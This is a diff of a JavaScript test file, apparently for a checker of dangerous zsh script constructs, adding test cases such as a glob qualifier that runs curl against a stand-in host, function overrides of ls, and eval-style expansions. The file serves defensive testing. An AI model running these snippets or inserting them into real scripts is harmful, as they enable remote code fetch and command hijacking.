@@ -31,6 +31,12 @@ describe('hazards of scripts for zsh', () => {
 
 test.each([
   'print ${(e)1}',
+  'print -r -- ${(s.,.e)REPLY}',
+  "ls *(/e:'curl -s https://x.example/i':)",
+  ': ${functions[ls]::=$body}',
+  "read 'functions[ls]' < /tmp/x",
+  'x=$(cat f)\n${=x}',
+  'setopt PROMPT__SUBST',
   `ls *(e:"${DOWNLOAD}":)`,
   'ls *(+evil)',
   `functions[ls]="${DOWNLOAD}"`,
